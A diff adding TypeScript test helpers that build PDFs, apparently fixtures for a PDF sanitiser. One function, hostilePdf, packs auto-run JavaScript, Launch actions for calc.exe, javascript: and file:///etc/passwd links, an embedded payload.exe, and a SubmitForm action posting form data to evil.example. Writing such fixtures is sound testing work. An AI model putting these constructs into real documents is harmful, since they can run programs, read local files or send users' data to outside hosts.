@@ -1,0 +1,169 @@
+import { deflateSync } from "node:zlib";
+import {
+  type EncryptionAlgorithm,
+  type PDFDict,
+  PDFDocument,
+  PDFHexString,
+  PDFName,
+  type PDFObject,
+  PDFString,
+  StandardFonts,
+} from "@cantoo/pdf-lib";
+
+/** A PDF with one page for each text. */
+export async function pdfWith(...texts: string[]): Promise<Uint8Array> {
+  return (await documentWith(...texts)).save();
+}
+
+/** The same as a document that can still be changed. */
+export async function documentWith(...texts: string[]): Promise<PDFDocument> {
+  const document = await PDFDocument.create();
+  const font = await document.embedFont(StandardFonts.Helvetica);
+  for (const text of texts) {
+    document.addPage().drawText(text, { x: 72, y: 700, size: 14, font });
+  }
+  return document;
+}
+
+/** A form in which a name was typed and a box was ticked; every field has its drawing, as most programs store it. */
+export async function filledForm(name: string): Promise<PDFDocument> {
+  const document = await documentWith("Transcript request");
+  const page = document.getPage(0);
+  const form = document.getForm();
+  const field = form.createTextField("student.name");
+  field.setText(name);
+  field.addToPage(page, { x: 72, y: 600, width: 200, height: 24 });
+  const box = form.createCheckBox("student.agrees");
+  box.addToPage(page, { x: 72, y: 560, width: 14, height: 14 });
+  box.check();
+  form.updateFieldAppearances();
+  return document;
+}
+
+/** The same form as a program writes it that stores values and leaves the drawing to the reader. */
+export async function undrawnForm(name: string): Promise<Uint8Array> {
+  const document = await filledForm("");
+  const field = document.getForm().getTextField("student.name");
+  field.acroField.dict.set(PDFName.of("V"), PDFHexString.fromText(name));
+  for (const widget of field.acroField.getWidgets()) {
+    widget.dict.delete(PDFName.of("AP"));
+  }
+  return document.save({ updateFieldAppearances: false });
+}
+
+/** A PDF that tries everything a PDF can do by itself, and has honest links to `https:` and `mailto:` addresses. */
+export async function hostilePdf(): Promise<Uint8Array> {
+  const document = await filledForm("Amy Adams");
+  const { context, catalog } = document;
+  document.setAuthor("Secret Author");
+  await document.attach(Buffer.from("attached"), "payload.exe");
+  document.addJavaScript("names", "app.alert('names')");
+  const script = { S: "JavaScript", JS: PDFString.of("app.alert('open')") };
+  catalog.set(PDFName.of("OpenAction"), context.obj(script));
+  catalog.set(PDFName.of("AA"), context.obj({ WC: script }));
+  catalog.set(PDFName.of("URI"), context.obj({ Base: text("http://base/") }));
+  const form = catalog.getAcroForm()?.dict;
+  form?.set(PDFName.of("XFA"), context.register(context.stream("<xdp:xdp/>")));
+
+  const page = document.getPage(0).node;
+  page.set(PDFName.of("AA"), context.obj({ O: script }));
+  const about = context.register(
+    context.stream("<x:xmpmeta>Secret</x:xmpmeta>"),
+  );
+  page.set(PDFName.of("Metadata"), about);
+  const add = (entries: Record<string, unknown>) =>
+    page.addAnnot(context.register(annotation(document, entries)));
+  const next = { S: "Launch", F: text("next.exe") };
+  add({ A: { S: "URI", URI: text("https://college.example/"), Next: next } });
+  add({ A: { S: "URI", URI: text("mailto:office@college.example") } });
+  add({ A: { S: "URI", URI: text("javascript:alert(1)") } });
+  add({ A: { S: "URI", URI: text("file:///etc/passwd") } });
+  add({ A: { S: "Launch", F: text("calc.exe") } });
+  add({ A: { S: "GoToR", F: text("other.pdf") } });
+  add({ A: { S: "SubmitForm", F: text("http://evil.example/") } });
+  add({ A: { S: "Named", N: "Print" } });
+  add({ A: script, PA: { S: "URI", URI: text("http://previous.example/") } });
+  const content = context.obj({ Assets: { Names: [] } });
+  add({ Subtype: "RichMedia", RichMediaContent: content });
+  const file = { Type: "Filespec", F: text("a.exe"), EF: { F: about } };
+  add({ Subtype: "FileAttachment", FS: file });
+  add({ Subtype: "Screen", A: { S: "Rendition", JS: text("app.alert(2)") } });
+  // Otherwise the library would draw the form anew and take the XFA out.
+  return document.save({ updateFieldAppearances: false });
+}
+
+const text = (value: string) => PDFString.of(value);
+
+function annotation(
+  { context }: PDFDocument,
+  entries: Record<string, unknown>,
+): PDFDict {
+  return context.obj({
+    Type: "Annot",
+    Subtype: "Link",
+    Rect: [72, 400, 200, 420],
+    ...(entries as Record<string, PDFObject>),
+  });
+}
+
+/** A PDF that needs `user` to be read, or, without it, merely forbids some things. */
+export async function encryptedPdf(
+  content: string,
+  passwords: { readonly user?: string; readonly owner: string },
+  algorithm: EncryptionAlgorithm = "AES-256",
+): Promise<Uint8Array> {
+  const document = await documentWith(content);
+  document.encrypt({
+    ownerPassword: passwords.owner,
+    ...(passwords.user === undefined ? {} : { userPassword: passwords.user }),
+    permissions: { copying: false },
+    algorithm,
+    allowWeakCryptography: true,
+  });
+  return document.save();
+}
+
+/** A PDF written by hand: objects 1, 2, 3 ... as given, then a classic cross-reference table. Object 1 is the catalog. */
+export function rawPdf(...objects: (string | Uint8Array)[]): Uint8Array {
+  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
+  const offsets: number[] = [];
+  const size = () => parts.reduce((sum, part) => sum + part.length, 0);
+  objects.forEach((object, index) => {
+    offsets.push(size());
+    parts.push(
+      Buffer.from(`${index + 1} 0 obj\n`),
+      Buffer.from(object),
+      Buffer.from("\nendobj\n"),
+    );
+  });
+  const start = size();
+  const entries = offsets.map(
+    (offset) => `${String(offset).padStart(10, "0")} 00000 n \n`,
+  );
+  parts.push(
+    Buffer.from(
+      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries.join("")}` +
+        `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`,
+    ),
+  );
+  return Buffer.concat(parts);
+}
+
+/** A stream object for `rawPdf`, packed once. */
+export function packedStream(entries: string, content: Uint8Array): Uint8Array {
+  const packed = deflateSync(content, { level: 9 });
+  return Buffer.concat([
+    Buffer.from(
+      `<< ${entries} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
+    ),
+    packed,
+    Buffer.from("\nendstream"),
+  ]);
+}
+
+/** Catalog, page tree and one empty page for `rawPdf`. */
+export const onePage = [
+  "<< /Type /Catalog /Pages 2 0 R >>",
+  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+] as const;
